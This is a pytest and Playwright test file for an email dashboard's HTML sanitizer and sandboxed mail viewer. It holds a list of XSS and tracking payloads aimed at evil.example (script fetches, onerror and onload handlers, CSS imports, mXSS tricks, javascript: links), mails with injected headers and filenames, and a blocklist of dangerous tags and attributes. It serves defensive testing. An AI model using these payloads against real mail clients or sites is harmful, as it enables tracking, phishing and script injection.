"""Mail that wants out: whatever stands in it, the pages ask nobody but us and run nothing of it (HU1-HU4, HL5, HV1)."""

from email.message import EmailMessage
from uuid import UUID

import pytest
from playwright.async_api import Page, expect

from api.dashboard.mail_html import cleaned
from tests.browser.visitors import Visitors
from tests.integration.running import MAILBOX, Running

EVIL = "evil.example"
VECTORS = (
    f'<img src="http://{EVIL}/pixel.gif"><img srcset="http://{EVIL}/a 1x, //{EVIL}/b 2x" src="cid:none">',
    f'<link rel="stylesheet" href="http://{EVIL}/s.css"><link rel="dns-prefetch" href="//{EVIL}">'
    f'<link rel="preload" as="image" href="//{EVIL}/p">',
    f"<style>@import url(http://{EVIL}/i.css); body{{background:url(http://{EVIL}/bg)}}</style>",
    f'<div style="background-image:url(http://{EVIL}/css)">x</div><p style="background-color:URL(//{EVIL}/c)">y</p>',
    f'<table background="http://{EVIL}/t.png"><tr><td background="//{EVIL}/td.png">cell</td></tr></table>',
    f'<iframe src="http://{EVIL}/frame"></iframe><object data="http://{EVIL}/o"></object><embed src="//{EVIL}/e">',
    f'<script src="http://{EVIL}/x.js"></script><script>fetch("http://{EVIL}/f")</script>'
    f"<svg onload=\"location='//{EVIL}'\"></svg>",
    f'<base href="http://{EVIL}/"><a href="/relative">relative</a>'
    f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/m">',
    f'<video poster="//{EVIL}/v" src="//{EVIL}/v.mp4" autoplay></video><audio src="//{EVIL}/a.mp3" autoplay></audio>',
    f'<form action="http://{EVIL}/login"><input name="password" autofocus onfocus="fetch(\'//{EVIL}\')">'
    "<button>Sign in</button></form>",
    f"<img src=x onerror=\"document.body.innerHTML='<img src=//{EVIL}/n>'\">"
    f'<math><mtext><img src="//{EVIL}/m"></mtext></math>',
    f'<svg><image href="http://{EVIL}/svg.png"/><use href="//{EVIL}/u#x"/></svg><input type="image" src="//{EVIL}/in">',
    f'<noscript><p title="</noscript><img src=//{EVIL}/mx onerror=alert(1)>"></noscript>'
    f'<template><img src="//{EVIL}/tp"></template>',
    f'<a href="http://{EVIL}/click" ping="http://{EVIL}/ping">our bank</a><a href="javascript:alert(1)">run</a>',
    f'<ul style="list-style:url(//{EVIL}/l)"><li>i</li></ul><div style="content:\\75rl(//{EVIL}/esc)">z</div>',
)
SCRIPT = "<script>document.title='owned'</script>"


def hostile(html: str, sender: str) -> bytes:
    """A mail whose every visible field tries something."""
    message = EmailMessage()
    message["From"] = f'"{SCRIPT}" <{sender}>'
    message["To"], message["Subject"] = MAILBOX, f"Order 4711 {SCRIPT} \u202egpj.exe"
    message.set_content(f"Where is my order 4711? {SCRIPT} {{{{7*7}}}} http://{EVIL}/text")
    message.add_alternative(f"<html><body><p>Where is my order 4711?</p>{html}</body></html>", subtype="html")
    message.add_attachment(b"<script>alert(1)</script>", maintype="text", subtype="html", filename='"><img src=x>.html')
    return message.as_bytes()


async def thread_of(pipeline: Running, message_id: UUID) -> UUID:
    """Its conversation."""
    found: UUID = await pipeline.value("SELECT thread_id FROM inbound_messages WHERE id = $1", message_id)
    return found


async def look_at_everything(page: Page, url: str) -> None:
    """Opens the conversation and every fold of it, the designed mail included, and waits for it to be drawn."""
    await page.goto(url)
    for fold in await page.locator(".talk details.fold, .side details.fold").all():
        await fold.evaluate("node => { node.open = true }")
    frame = page.frame_locator("iframe.mail")
    await expect(frame.locator("body")).to_contain_text("Where is my order 4711?")


async def test_no_request_leaves_the_page(pipeline: Running, visitors: Visitors) -> None:  # HU1, HU2
    """Every vector is delivered as mail, opened in its frame, and the browser has asked nobody but us."""
    page = await visitors.arrive()
    ids = [await pipeline.arrive(hostile(html, f"attacker{n}@kunde.example")) for n, html in enumerate(VECTORS)]
    for message_id in ids:
        await pipeline.until(message_id, "draft_ready", "quarantined", "archived")
        await look_at_everything(page, f"{pipeline.url}/dashboard/inbox/{await thread_of(pipeline, message_id)}")
    await page.goto(f"{pipeline.url}/dashboard/inbox")
    assert "owned" not in await page.title()
    assert [url for url in visitors.asked if not url.startswith((f"{pipeline.url}/", "data:"))] == []
    assert sum("/html" in url for url in visitors.asked) >= len(VECTORS)


async def test_what_a_sender_wrote_stays_text(pipeline: Running, visitors: Visitors) -> None:  # HU3
    """Names, subjects, texts and file names are escaped; direction marks are shown as words; templates stay unread."""
    message_id = await pipeline.arrive(hostile("<b>hello</b>", "writer@kunde.example"))
    await pipeline.until(message_id, "draft_ready", "quarantined", "archived")
    page = await visitors.arrive()
    await page.goto(f"{pipeline.url}/dashboard/inbox/{await thread_of(pipeline, message_id)}")
    await expect(page.locator("#talk-title")).to_contain_text("<script>document.title='owned'</script> ⟦RLO⟧gpj.exe")
    await expect(page.locator(".letter .body").first).to_contain_text("{{7*7}}")
    assert "owned" not in await page.title() or "<script>" in await page.title()
    assert await page.locator(".talk script, .talk img").count() == 0


async def test_an_attachment_is_only_ever_saved(pipeline: Running, visitors: Visitors) -> None:  # HU4
    """One harmless type, as attachment, sandboxed; the address is of no use when changed, expired or to others."""
    message_id = await pipeline.arrive(hostile("<b>x</b>", "sender@kunde.example"))
    await pipeline.until(message_id, "draft_ready", "quarantined", "archived")
    page, other = await visitors.arrive(), await visitors.arrive()
    await page.goto(f"{pipeline.url}/dashboard/inbox/{await thread_of(pipeline, message_id)}")
    link = str(await page.locator(".files a").first.get_attribute("href"))
    answer = await page.request.get(f"{pipeline.url}{link}")
    assert answer.status == 200 and await answer.body() == b"<script>alert(1)</script>"
    assert (
        answer.headers["content-type"] == "application/octet-stream"
        and "sandbox" in answer.headers["content-security-policy"]
    )
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert (await page.request.get(f"{pipeline.url}{link[:-1]}{'0' if link[-1] != '0' else '1'}")).status == 403
    assert (await page.request.get(f"{pipeline.url}{link.replace('until=1', 'until=0')}")).status == 403
    assert (await other.request.get(f"{pipeline.url}{link}")).status == 403


async def test_the_frame_of_a_mail_can_do_nothing(pipeline: Running, visitors: Visitors) -> None:  # HU2
    """An empty sandbox, and the policy of HU2 on its own route, which needs a session."""
    message_id = await pipeline.arrive(hostile("<b>x</b>", "framed@kunde.example"))
    await pipeline.until(message_id, "draft_ready", "quarantined", "archived")
    page = await visitors.arrive()
    await page.goto(f"{pipeline.url}/dashboard/inbox/{await thread_of(pipeline, message_id)}")
    assert await page.locator("iframe.mail").get_attribute("sandbox") == ""
    address = f"{pipeline.url}/dashboard/messages/{message_id}/html"
    answer = await page.request.get(address)
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:;") and policy.endswith(
        "sandbox"
    )
    stranger = await pipeline.get(f"/dashboard/messages/{message_id}/html", token="")
    assert stranger.status_code == 303


@pytest.mark.parametrize("html", VECTORS)
def test_cleaned_html_holds_no_address_to_ask(html: str) -> None:  # HU2
    """No attribute or style that could load, no handler, no form; a link shows its host as text."""
    kept = cleaned(html).lower()
    for word in (
        'src="http',
        'src="//',
        "url(",
        "@import",
        "href",
        "onerror",
        "onload",
        "<form",
        "<script",
        "<iframe",
        "<svg",
        "srcset",
        "<link",
        "<meta",
        "<base",
    ):
        assert word not in kept


def test_what_a_mail_hides_stays_hidden() -> None:  # HV1
    """The designed view shows no more than a mail program would; nothing is laid over the page."""
    assert cleaned('<p style="display:none;color:red">x</p>') == '<p style="display:none;color:red">x</p>'
    assert cleaned('<p style="position:fixed;top:0;z-index:9">x</p>') == '<p style="">x</p>'


def test_a_link_is_inert_and_shows_its_host() -> None:  # HL5
    """In A-label form, whatever its text says."""
    assert cleaned('<a href="https://b\u00fccher.example/x">your bank</a>') == "your bank [xn--bcher-kva.example]"
    assert cleaned('<img src="https://evil.example/x.png" alt="Sale">') == "[Sale]"
    pixel = "data:image/png;base64,iVBORw0KGgo="
    assert cleaned(f'<img src="{pixel}">') == f'<img src="{pixel}">'
    assert cleaned('<img src="data:image/svg+xml;base64,AAAA">') == ""
